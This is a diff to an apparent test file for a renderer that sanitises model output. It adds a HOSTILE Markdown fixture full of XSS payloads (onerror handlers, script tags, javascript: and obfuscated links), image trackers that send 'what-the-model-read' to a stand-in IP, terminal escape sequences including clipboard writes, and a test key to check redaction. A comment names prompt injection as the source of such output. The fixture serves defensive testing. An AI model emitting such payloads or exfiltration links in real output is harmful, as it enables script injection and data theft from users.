@@ -15,6 +15,46 @@ from html.parser import HTMLParser
 import markdown
 import mistune
 
+from tests.conftest import TEST_KEY
+
+# What a hostile service (or a prompt injection) puts in an answer.
+REMOTE = "http://203.0.113.7/leak.png?q=what-the-model-read"
+HOSTILE = f"""# Report
+
+<img src=x onerror="window.__pwned=1;document.title='pwned'">
+<script>window.__pwned=2</script>
+<iframe src="javascript:window.__pwned=3"></iframe><object data="javascript:1"></object>
+<embed src="javascript:1"><svg onload="window.__pwned=4"></svg>
+[click me](javascript:window.__pwned=5) [data](data:text/html;base64,PHNjcmlwdD4=) [vb](vbscript:msgbox)
+[obfuscated](jav&#x61;script:window.__pwned=6) [spaced]( &#9;javascript:x) [ref link][r] <javascript:x>
+
+[r]: javascript:window.__pwned=7
+
+![tracker]({REMOTE}) <img src=https://203.0.113.7/x.png> ![by reference][r2] ![local](plot.png)
+
+[r2]: https://203.0.113.7/ref.png
+
+<a href="javascript:window.__pwned=8">html link</a> <details open ontoggle="window.__pwned=9">x</details>
+
+Terminal: \x1b]52;c;cHduZWQ=\x07 \x1b[2J \x1b]0;pwned title\x07 \x1b[8mhidden\x1b[0m
+
+Your key is {TEST_KEY}, shouted {TEST_KEY.upper()}, cut {TEST_KEY[:12]}.
+
+Code: `<img src=x onerror=alert(1)>` stays readable.
+
+- in a list
+  ```html
+  <script>alert("in a fenced list item")</script>
+  ```
+
+```python
+if a < b and c > d:
+    print([x](y) for x in z)
+```
+"""
+HOSTILE_REASONING = "Thinking <img src=x onerror=window.__pwned=10> [r](javascript:x) \x1b]52;c;eA==\x07"
+
+
 ACTIVE_TAGS = {
     "script", "iframe", "object", "embed", "applet", "frame", "frameset", "base", "link", "meta",
     "form", "svg", "math", "style", "template", "portal",
